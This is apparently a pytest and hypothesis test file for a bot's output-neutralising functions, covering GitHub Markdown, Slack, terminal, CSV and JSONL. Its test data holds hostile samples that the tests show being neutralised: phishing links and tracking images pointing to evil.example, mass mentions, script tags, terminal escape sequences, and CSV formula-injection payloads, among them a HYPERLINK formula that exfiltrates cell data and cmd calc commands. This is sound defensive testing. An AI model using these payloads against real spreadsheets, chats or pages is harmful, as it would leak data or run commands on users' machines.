"""bot/core/neutral.py: text people wrote, shown as typed and never acted on, for each place.

Markdown is checked on what GitHub's own renderer (cmark-gfm) makes of it and what
GitHub's filters would act on afterwards (tests/markdown_seen.py); the other places on
their rules. Every function is fuzzed: no input raises.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_seen import SHOWDOWN_MENTION, seen, visible

from bot.core.neutral import (
    WORD_JOINER,
    csv_cell,
    jsonl,
    markdown,
    slack,
    terminal,
    words,
)
from bot.core.text import one_line

WJ = WORD_JOINER
# The reason of issue #20's report, and its relatives.
HOSTILE = (
    "fine <img src=https://evil.example/p.png> [Approve here](https://evil.example/approve) "
    "cc @acme/everyone <!--"
)

# ---- Markdown ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "typed",
    [
        HOSTILE,
        "![pixel](https://evil.example/p.png)",
        "<https://evil.example>",
        "https://evil.example/approve and www.evil.example",
        "[Approve][1]",
        "&#64;acme/everyone and &lt;b&gt; and &amp;",
        "ping @alice, (@acme/team) and.@bob",
        "fixes #12 and acme/models#3",
        "# not a heading",
        "> not a quote",
        "- not a list",
        "+ not a list",
        "1. not a list",
        "2) not a list",
        "*not emphasis* _nor this_ __nor__ **nor this** ~~nor this~~",
        "`not code` and ``` fences",
        "a | b | c",
        "a\\ trailing backslash\\",
        "<iframe src=https://evil.example></iframe>",
        "<!-- hides the rest",
        "</p><script>alert(1)</script>",
        "===",
        "---",
        "<?php echo 1; ?> <!DOCTYPE x>",
    ],
)
def test_markdown_shows_what_was_typed_and_acts_on_none_of_it(typed: str) -> None:
    shown = seen(markdown(typed))
    assert shown.tags == ["p"]  # one paragraph: no link, image, HTML, heading, list, code
    assert shown.links == []
    assert shown.mentions == [] and shown.references == []
    assert shown.text.strip() == typed.strip()


def test_markdown_keeps_the_reports_words_readable() -> None:
    out = markdown(HOSTILE)
    assert "@acme/everyone" not in out and f"@{WJ}acme/everyone" in out
    assert "<img" not in out and "<!--" not in out and "](https://" not in out
    assert visible(out) == HOSTILE


def test_markdown_leaves_plain_text_and_addresses_alone() -> None:
    for plain in [
        "passed shadow test, F1 0.89 (accuracy ≥ 0.80)",
        "bob@example.com",
        "error_rate < 0.02 and p99 > 0.5",
        "R&D said ok",
        "snake_case_name",
        "-0.5 and --dry-run",
    ]:
        assert markdown(plain) == plain


def test_markdown_keeps_each_line_and_escapes_each_lines_start() -> None:
    assert markdown("one\r\n# two\r- three\n> four") == "one\n\\# two\n\\- three\n&gt; four"


@given(st.text())
def test_markdown_never_raises(text: str) -> None:
    markdown(text)


# Markdown's own characters, most of the time, so the fuzzing reaches its syntax.
SYNTAX = st.text(
    alphabet=st.one_of(
        st.sampled_from(list("&<>[]()!@#*_~`\\|:/.-+=;0123456789 wWhtpsa")),
        st.characters(blacklist_categories=("Cs", "Cc", "Zl", "Zp")),
    ),
    max_size=60,
)


@given(SYNTAX)
def test_markdown_of_any_line_is_one_paragraph_of_exactly_that_line(typed: str) -> None:
    line = one_line(typed.replace(WJ, ""))
    shown = seen(markdown(line))
    if not line:
        return
    # GitHub may link an e-mail address as mailto: (it shows the address itself).
    assert [t for t in shown.tags if t != "a"] == ["p"]
    assert all(link.startswith("mailto:") for link in shown.links)
    assert shown.mentions == [] and shown.references == []
    assert not SHOWDOWN_MENTION.search(markdown(line))
    assert shown.text.strip() == line


# ---- Slack -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "mrkdwn"),
    [
        ("<!channel> <@U01ALICE>", f"&lt;!channel&gt; &lt;@{WJ}U01ALICE&gt;"),
        ("<https://evil.example|Approve here>", "&lt;https://evil.example|Approve here&gt;"),
        ("a & b &amp;", "a &amp; b &amp;amp;"),
        ("main` *bold* `", "main' ∗bold∗ '"),
        ("```block```", "'''block'''"),
        ("cc @here and @channel", f"cc @{WJ}here and @{WJ}channel"),
        ("bob@example.com", "bob@example.com"),
    ],
    ids=["mentions", "link", "ampersand", "code-span", "code-block", "at-here", "address"],
)
def test_slack(typed: str, mrkdwn: str) -> None:
    assert slack(typed) == mrkdwn


@given(st.text())
def test_slack_never_raises_and_leaves_no_control_character(text: str) -> None:
    out = slack(text)
    assert "<" not in out and ">" not in out and "`" not in out and "*" not in out


# ---- the one shape, the terminal -------------------------------------------------------------


def test_words_leaves_the_shape_no_mark_of_its_own() -> None:
    assert words("`x` **y** *z*") == "'x' ∗∗y∗∗ ∗z∗"
    assert words(42) == "42"


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("\x1b[2Jcleared", "\ufffd[2Jcleared"),
        (
            "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
            "\ufffd]8;;https://evil.example\ufffdclick\ufffd]8;;\ufffd",
        ),
        ("abc\u202edcba", "abc\ufffddcba"),
        ("two\nlines ⚠️ ✅ café", "two\nlines ⚠️ ✅ café"),
    ],
    ids=["escape-sequence", "hidden-link", "right-to-left", "kept"],
)
def test_terminal(typed: str, shown: str) -> None:
    assert terminal(typed) == shown


# ---- exports ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("passed shadow test", "passed shadow test"),
        ("2026-11-25T10:00:00Z", "2026-11-25T10:00:00Z"),
        (3, 3),
        ("", ""),
    ],
    ids=["equals", "plus", "at", "minus", "tab", "carriage-return", "text", "time", "int", "empty"],
)
def test_csv_cell(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


@given(st.text())
def test_a_csv_cell_never_starts_a_formula_and_reads_back(text: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow([csv_cell(text)])
    [[back]] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert not back.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert back in (text, "'" + text)


@given(st.dictionaries(st.text(max_size=5), st.text()))
def test_a_json_line_is_one_line_and_the_same_value(record: dict[str, str]) -> None:
    line = jsonl(json.dumps(record, ensure_ascii=False))
    assert line.splitlines() == [line] or line == ""
    assert json.loads(line) == record


def test_jsonl_escapes_the_separators_json_leaves_raw() -> None:
    line = jsonl(json.dumps({"reason": "one\u2028two\u2029three\x85four"}, ensure_ascii=False))
    assert line == '{"reason": "one\\u2028two\\u2029three\\u0085four"}'
